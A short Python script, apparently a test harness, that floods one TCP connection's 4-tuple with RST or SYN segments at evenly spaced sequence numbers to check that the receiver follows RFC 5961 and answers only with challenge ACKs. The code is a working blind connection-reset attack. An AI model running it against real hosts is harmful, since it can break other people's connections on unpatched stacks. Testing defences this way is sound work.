"""A blind in-the-dark attack on one connection: segments with FLAGS (rst or syn) on its real
4-tuple, SRC:SPORT -> DST:DPORT, at every sequence number 0, STEP, 2*STEP, ... below 2^32.

An off-path attacker knows the 4-tuple but not the sequence numbers; RFC 5961 §3 and §4 make
the receiver answer all of these with at most a challenge ACK, never a reset.

usage: sweep.py SRC SPORT DST DPORT rst|syn STEP
prints: "sent N"
"""
import sys
import time

import rawip

src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
kind, step = sys.argv[5], int(sys.argv[6])
flags = {"rst": rawip.RST, "syn": rawip.SYN}[kind]
out = rawip.RawSender()
sent = 0
for i, seq in enumerate(range(0, 1 << 32, step)):
    sent += out.send(rawip.tcp_packet(src, dst, sport, dport, seq, 0, flags))
    # A short pause now and then keeps the TUN's 500-packet queue from overflowing, so the
    # sweep really covers the whole space instead of being thinned out by the kernel.
    if i % 256 == 255:
        time.sleep(0.002)
print("sent %d" % sent)
